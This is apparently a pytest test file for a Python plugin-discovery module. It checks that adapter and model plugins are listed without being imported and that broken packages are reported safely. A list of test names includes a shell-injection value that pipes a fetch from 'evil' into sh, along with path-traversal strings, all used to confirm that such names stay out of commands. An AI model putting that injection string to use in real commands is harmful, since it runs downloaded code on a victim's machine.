"""Discovery: installed plugins are found without running them, broken ones are reasons."""

import builtins
import os
import sys
import zipfile
from pathlib import Path

import pytest
import refiners
from refiners.doctor import examine
from refiners.installed import inventory
from refiners.installed.distribution import canonical, distributions
from refiners.installed.inventory import package_file, scan

from ..conftest import EDGES_TOML, TOY_MODEL_TOML, Site

RAISES = "raise RuntimeError('must not be imported')"


def test_what_is_installed_is_listed_by_name(site: Site) -> None:
    site.add_toy()
    site.add_edges()
    (adapter,), (model,) = refiners.adapters(), refiners.models()
    assert (adapter.id, adapter.version) == ("refiners-edges:edges", "1.2")
    assert model.id == "refiners-toy:toy"
    assert refiners.broken() == ()


def test_nothing_is_imported(site: Site) -> None:
    files = {"__init__.py": RAISES, "adapter.toml": EDGES_TOML}
    site.add("refiners-edges", files=files)
    assert [one.name for one in refiners.adapters()] == ["edges"]
    assert "refiners_edges" not in sys.modules


def test_an_editable_installation_is_found(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    package = site.add("refiners-edges", files={"adapter.toml": EDGES_TOML})
    src = site.folder.parent / "checkout" / "src"
    src.mkdir(parents=True)
    package.rename(src / package.name)
    assert "its package is gone" in str(refiners.broken())
    monkeypatch.syspath_prepend(str(src))  # what the .pth file of an editable installation does
    (adapter,) = refiners.adapters()
    assert adapter.path == src / "refiners_edges" / "adapter.toml"


@pytest.mark.parametrize(
    ("files", "entry_points", "said"),
    [
        ({"adapter.toml": "schema = 1"}, None, "'adapter' is missing"),
        ({"adapter.toml": "schema ="}, None, "is not TOML"),
        ({}, None, "has no adapter.toml"),
        ({}, "[refiners.adapters]\nx = nowhere_at_all:adapter.toml\n", "its package is gone"),
        ({}, "[refiners.adapters]\nx = refiners_bad.module:Class\n", "should be 'package:adapter"),
        ({}, "[refiners.adapters]\nx = ../../etc:adapter.toml\n", "should be 'package:adapter"),
        ({}, "[refiners.adapters]\nthis is no entry point\n", "entry_points.txt"),
        ({"model.toml": EDGES_TOML}, "[refiners.models]\nx = refiners_bad:model.toml\n", "no such"),
    ],
)
def test_a_broken_package_is_a_reason_and_breaks_nobody(
    site: Site, files: dict[str, str | bytes], entry_points: str | None, said: str
) -> None:
    site.add("refiners-bad", files=files, entry_points=entry_points)
    site.add_edges()
    found = scan()
    assert [one.name for one in found.adapters] == ["edges"]
    (broken,) = found.broken
    assert broken.dist == "refiners-bad"
    assert said in f"{broken.name} {broken.error}"


def test_metadata_without_a_name_is_a_reason(site: Site) -> None:
    site.add("refiners-bad", files={"adapter.toml": EDGES_TOML})
    (site.folder / "refiners_bad-1.2.dist-info" / "METADATA").unlink()
    (broken,) = scan().broken
    assert broken.dist == "unknown"
    assert "refiners_bad-1.2.dist-info" in broken.error


def test_an_unreadable_manifest_is_a_reason(site: Site) -> None:
    package = site.add("refiners-bad", files={"adapter.toml": EDGES_TOML})
    (package / "adapter.toml").write_bytes(b"\xff\xfe")
    assert "cannot be read" in scan().broken[0].error


def test_one_distribution_provides_several(site: Site) -> None:
    second = EDGES_TOML.replace("schema = 1", "").replace("edges", "depth")
    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML + second})
    assert [one.id for one in refiners.adapters()] == [
        "refiners-edges:depth",
        "refiners-edges:edges",
    ]


def test_a_file_of_a_package_is_found_without_importing_it(site: Site) -> None:
    package = site.add("data", files={"__init__.py": RAISES, "deep/file.bin": b"1"})
    assert package_file("data", "deep/file.bin") == package / "deep" / "file.bin"
    assert package_file("data", "deep/other.bin") is None
    assert package_file("no_such_package", "file.bin") is None
    assert package_file("sys", "file.bin") is None


def test_an_earlier_folder_shadows_a_later_copy(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.add_edges()
    copy = next(iter(inventory.distributions()))
    monkeypatch.setattr(inventory, "distributions", lambda: [copy, copy])
    assert [one.name for one in refiners.adapters()] == ["edges"]


def test_distributions_have_one_spelling() -> None:
    assert canonical("Refiners_Edges.x") == "refiners-edges-x"


def test_models_are_listed_apart(site: Site) -> None:
    site.add("refiners-toy", files={"model.toml": TOY_MODEL_TOML})
    assert refiners.adapters() == ()
    assert [one.spec.family for one in refiners.models()] == ["toy"]


def test_a_distribution_that_names_its_manifest_twice_has_it_once(site: Site) -> None:
    points = (
        "[refiners.adapters]\na = refiners_edges:adapter.toml\nb = refiners_edges:adapter.toml\n"
    )
    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, entry_points=points)
    assert [one.id for one in refiners.adapters()] == ["refiners-edges:edges"]
    assert scan().broken == ()


def test_a_second_manifest_for_one_name_is_a_reason(site: Site) -> None:
    points = "[refiners.adapters]\na = refiners_edges:adapter.toml\nb = refiners_edges:more.toml\n"
    files: dict[str, str | bytes] = {"adapter.toml": EDGES_TOML, "more.toml": EDGES_TOML}
    site.add("refiners-edges", files=files, entry_points=points)
    assert [one.path.name for one in refiners.adapters()] == ["adapter.toml"]
    assert "more.toml has edges, which adapter.toml has as well" in scan().broken[0].error


@pytest.mark.parametrize("points", ["", "[console_scripts]\nx = y:z\n"])
def test_a_newer_copy_hides_an_older_one_whatever_it_offers(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, points: str
) -> None:
    site.add("refiners-edges", entry_points=points, version="2.0")
    later = Site(tmp_path / "later")
    later.folder.mkdir()
    later.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, version="1.0")
    folders = [str(site.folder), str(later.folder)]
    monkeypatch.setattr(inventory, "distributions", lambda: distributions(folders))
    assert refiners.adapters() == ()
    (stale,) = examine(is_probing=False)
    assert (stale.kind, stale.dist) == ("stale metadata", "refiners-edges")
    assert "2.0, 1.0" in stale.what


def test_a_plugin_in_an_archive_is_told_where_it_lies(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    archive = tmp_path / "plugins.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("refiners_zipped/__init__.py", "")
        file.writestr("refiners_zipped/adapter.toml", EDGES_TOML)
        file.writestr("zipped-1.dist-info/METADATA", "Name: refiners-zipped\nVersion: 1\n")
        points = "[refiners.adapters]\na = refiners_zipped:adapter.toml\n"
        file.writestr("zipped-1.dist-info/entry_points.txt", points)
    monkeypatch.syspath_prepend(str(archive))
    monkeypatch.setattr(inventory, "distributions", lambda: distributions([str(archive)]))
    (broken,) = scan().broken
    assert f"refiners_zipped lies in an archive, {archive}" in broken.error


@pytest.mark.parametrize("value", ["refiners_edges:my-adapter.toml", "refiners_é:adapter.toml"])
def test_an_entry_point_that_importlib_cannot_read_is_refused(site: Site, value: str) -> None:
    points = f"[refiners.adapters]\na = {value}\n"
    files: dict[str, str | bytes] = {"my-adapter.toml": EDGES_TOML}
    site.add("refiners-edges", files=files, entry_points=points)
    assert "should be 'package:adapter.toml'" in scan().broken[0].error


@pytest.mark.parametrize("error", ["RuntimeError", "SystemExit", "GeneratorExit", "BaseException"])
def test_a_finder_that_raises_costs_nobody_else(
    site: Site, monkeypatch: pytest.MonkeyPatch, error: str
) -> None:
    class Finder:
        @staticmethod
        def find_distributions(context: object) -> list[object]:
            raise getattr(builtins, error)("broken on purpose")

        @staticmethod
        def find_spec(name: str, *more: object) -> None:
            if name.startswith("refiners_odd"):
                raise getattr(builtins, error)("broken on purpose")

    site.add_edges()
    site.add("refiners-odd", files={"adapter.toml": EDGES_TOML.replace("edges", "odd")})
    monkeypatch.setattr(sys, "meta_path", [Finder, *sys.meta_path])
    monkeypatch.setattr(sys, "path", [*sys.path, site.folder, b"bytes", "no\0where"])
    monkeypatch.setattr(inventory, "distributions", distributions)
    found = scan()
    assert "edges" in [one.name for one in found.adapters]
    assert [(one.dist, one.error) for one in found.broken] == [
        ("refiners-odd", "broken on purpose")
    ]


NAMES = [
    "x;curl${IFS}evil|sh",
    "../../etc",
    "/tmp/x",
    "a b",
    "-r",
    "x\x1b[1m",
    "é",
    "a" * 101,
    "x.",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_pip_would_not_take_is_put_into_no_command(site: Site, name: str) -> None:
    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML})
    metadata = site.folder / "refiners_edges-1.2.dist-info" / "METADATA"
    metadata.write_text(f"Name: {name}\nVersion: 1.0\n\nName: refiners-edges\n")
    (problem,) = examine(is_probing=False)
    assert (problem.dist, problem.command) == ("unknown", "pip check")
    assert "refiners_edges-1.2.dist-info" in problem.what


def test_special_files_and_garbled_texts_stop_nobody(site: Site) -> None:
    site.add_edges()
    for name in ("pipe", "folder"):
        info = site.folder / f"{name}-1.dist-info"
        info.mkdir()
        made = info / "entry_points.txt"
        made.mkdir() if name == "folder" else os.mkfifo(made)
    assert [one.name for one in refiners.adapters()] == ["edges"]


def test_entry_points_of_others_may_be_garbled(site: Site) -> None:
    points = "[console_scripts]\nfoo\n[refiners.adapters]\nmain = refiners_edges:adapter.toml\n"
    site.add("refiners-edges", files={"adapter.toml": EDGES_TOML}, entry_points=points)
    assert [one.name for one in refiners.adapters()] == ["edges"]
